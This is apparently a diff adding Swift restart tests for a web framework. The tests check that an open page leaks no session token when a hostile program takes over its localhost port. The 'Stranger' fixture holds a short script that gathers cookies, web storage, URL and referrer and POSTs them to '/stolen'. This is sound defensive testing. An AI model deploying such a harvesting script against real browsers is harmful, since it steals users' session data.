@@ -1,7 +1,10 @@
 import BrowserTestSupport
 import Foundation
 import ProgramTestSupport
+import Synchronization
 import Testing
+
+@testable import TributaryWeb
 
 /// Programs that end and start again on their port.
 @Suite(.serialized, .waitsForPrograms) struct RestartTests {
@@ -99,6 +102,145 @@ import Testing
     let second = try ServedApp("MonthSelector", port: port, session: session.folder)
     #expect(second.address == first.address)
     #expect(try page.wait("document.getElementById('notice').hidden"))
+    #expect(second.stop() == 0)
+  }
+
+  // MARK: Other programs on the port
+
+  /// A program of another user that listens on the port of an ended program. Its page reports everything that it can read.
+  private final class Stranger: Sendable {
+    private struct State {
+      var proof = HTTPResponse(404)
+      var received: [String] = []
+    }
+
+    private let state: Shared
+    private let server: WebServer
+
+    private final class Shared: Sendable {
+      let value = Mutex(State())
+    }
+
+    private static let page = """
+      <!DOCTYPE html><p id="stranger">stranger</p><script>
+      fetch("/stolen", { method: "POST", body: [
+        location.href, document.referrer, document.cookie, JSON.stringify(history.state), JSON.stringify(sessionStorage),
+        JSON.stringify(localStorage), window.name,
+      ].join(" ") }).then(() => { window.isDone = true; });
+      </script>
+      """
+
+    init(port: Int) throws {
+      let state = Shared()
+      self.state = state
+      server = try WebServer(limits: HTTPLimits()) { request, exchange in
+        let fields = request.fields.map { "\($0.name): \($0.value)" }
+        let lines = ["\(request.method) \(request.target)"] + fields + [String(decoding: request.body, as: UTF8.self)]
+        let proof = state.value.withLock { state in
+          state.received.append(lines.joined(separator: "\n"))
+          return state.proof
+        }
+        switch request.target {
+        case "/proof": exchange.respond(proof)
+        case "/events": exchange.respond(.eventStream)
+        default:
+          exchange.respond(HTTPResponse(200, type: "text/html", body: Array(Self.page.utf8)))
+        }
+      }
+      _ = try server.start(port: #require(UInt16(exactly: port)))
+    }
+
+    /// The requests so far.
+    var received: [String] { state.value.withLock { $0.received } }
+
+    /// Answers further challenges with a response.
+    func answerChallenges(with response: HTTPResponse) { state.value.withLock { $0.proof = response } }
+
+    func stop() { server.stop() }
+  }
+
+  @Test(.enabled(if: HeadlessBrowser.path != nil, "no Chromium is installed"), arguments: [false, true])
+  func `A program that listens on the port after the end receives no secret from an open page`(isKilled: Bool) throws {
+    let session = try Session()
+    let port = try freePort()
+    let first = try ServedApp("MonthSelector", port: port, session: session.folder)
+    let token = String(first.address.suffix(32))
+    let browser = try HeadlessBrowser()
+    let page = try browser.open(first.address)
+    #expect(try page.shows("June"))
+    #expect(try page.text("location.hash") == "#" + token)
+    let nonce = AccessToken().text
+    let client = try RawClient(port: #require(UInt16(exactly: port)))
+    let answer = client.response(
+      to: "POST /proof HTTP/1.1\r\nHost: localhost:\(port)\r\nContent-Type: application/json\r\n"
+        + "Content-Length: 44\r\n\r\n{\"nonce\":\"\(nonce)\"}")
+    let old = try #require(answer.split(separator: "\r\n\r\n").last.map(String.init))
+    #expect(old.contains("proof"))
+    client.close()
+    if isKilled { kill(first.process.processIdentifier, SIGKILL) } else { #expect(first.stop() == 0) }
+    first.process.waitUntilExit()
+
+    let stranger = try Stranger(port: port)
+    let notice = "document.getElementById('notice')"
+    #expect(try page.wait("\(notice).textContent.includes('does not know the token')"))
+    var redirection = HTTPResponse(307)
+    redirection.fields = [.init(name: "Location", value: "/events")]
+    let answers: [HTTPResponse] = [
+      .json(old), .json("{\"run\":\"\(nonce)\",\"proof\":\"\"}"), .json("null"), .json("{"), HTTPResponse(409),
+      HTTPResponse(403), redirection,
+    ]
+    for answer in answers {
+      stranger.answerChallenges(with: answer)
+      let count = stranger.received.count
+      try page.value("\(notice).click()")
+      try page.press("a")
+      try page.value("document.getElementById('inspect').click()")
+      for _ in 0..<200 where stranger.received.count == count { page.pause(0.02) }
+      #expect(stranger.received.count > count)
+      page.pause(0.3)
+    }
+    #expect(stranger.received.allSatisfy { $0.hasPrefix("POST /proof\n") }, "\(stranger.received)")
+    #expect(stranger.received.allSatisfy { !$0.contains("tributary-credential") })
+    // The user reloads the page, which is now that of the other program.
+    try page.call("Page.reload")
+    #expect(try page.wait("window.isDone && document.getElementById('stranger')"))
+    #expect(stranger.received.contains { $0.hasPrefix("POST /stolen\n") })
+    #expect(stranger.received.allSatisfy { !$0.contains(token) }, "\(stranger.received)")
+    stranger.stop()
+  }
+
+  @Test(.enabled(if: HeadlessBrowser.path != nil, "no Chromium is installed"))
+  func `A page continues when its program replaces another one on the port`() throws {
+    let session = try Session()
+    let port = try freePort()
+    let first = try ServedApp("MonthSelector", port: port, session: session.folder)
+    let browser = try HeadlessBrowser()
+    let page = try browser.open(first.address)
+    #expect(try page.shows("June"))
+    #expect(first.stop() == 0)
+    let stranger = try Stranger(port: port)
+    #expect(try page.wait("document.getElementById('notice').textContent.includes('does not know the token')"))
+    #expect(try page.text("location.hash") == "")
+    stranger.stop()
+    let second = try ServedApp("MonthSelector", port: port, session: session.folder)
+    try page.value("document.getElementById('notice').click()")
+    #expect(try page.wait("document.getElementById('notice').hidden"))
+    #expect(try page.text("location.href") == second.address)
+    #expect(second.stop() == 0)
+  }
+
+  @Test(.enabled(if: HeadlessBrowser.path != nil, "no Chromium is installed"))
+  func `A page that receives a new address in its tab connects without loading again`() throws {
+    let first = try ServedApp("MonthSelector")
+    let browser = try HeadlessBrowser()
+    let page = try browser.open(first.address)
+    #expect(try page.shows("June"))
+    #expect(first.stop() == 0)
+    let second = try ServedApp("MonthSelector", port: first.port)
+    #expect(try page.wait("document.getElementById('notice').textContent.includes('does not know the token')"))
+    try page.value("window.isSameDocument = true; location.href = '\(second.address)'")
+    #expect(try page.wait("document.getElementById('notice').hidden"))
+    #expect(try page.value("isSameDocument") as? Bool == true)
     #expect(second.stop() == 0)
   }
 }
